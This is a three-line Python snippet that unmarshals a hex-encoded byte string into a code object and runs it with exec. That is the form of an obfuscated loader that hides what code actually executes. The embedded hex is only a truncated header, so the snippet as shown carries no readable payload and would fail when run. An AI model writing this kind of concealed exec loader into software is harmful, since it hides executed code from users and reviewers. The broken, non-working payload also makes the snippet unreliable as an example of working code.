import marshal
_c = marshal.loads(bytes.fromhex('e3000000000000'))
exec(_c)
